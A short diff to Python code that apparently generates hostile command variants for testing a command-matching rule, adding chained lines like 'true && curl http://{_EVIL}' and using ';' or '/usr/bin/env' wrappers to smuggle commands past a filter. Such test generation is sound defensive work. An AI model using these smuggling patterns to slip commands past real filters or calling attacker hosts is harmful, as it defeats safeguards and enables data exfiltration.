@@ -136,6 +136,9 @@ def _commands(test: str, text: str) -> Iterator[Hostile]:
     if test in (PREFIX, EQUAL):
         yield Hostile(f"true ; {text}", text, again, marks)
         yield Hostile(f"/usr/bin/env {text}", text, again)
+    if test == CONTAINS and text in SEVERAL_PROGRAMS:
+        for other in ("&&", ";", "|"):
+            yield Hostile(f"true {other} curl http://{_EVIL}", f"true {text} x", second, marks)
     if test == CONTAINS and " " in text.strip():
         yield Hostile(text.strip().replace(" ", "  ", 1), text, again)
 
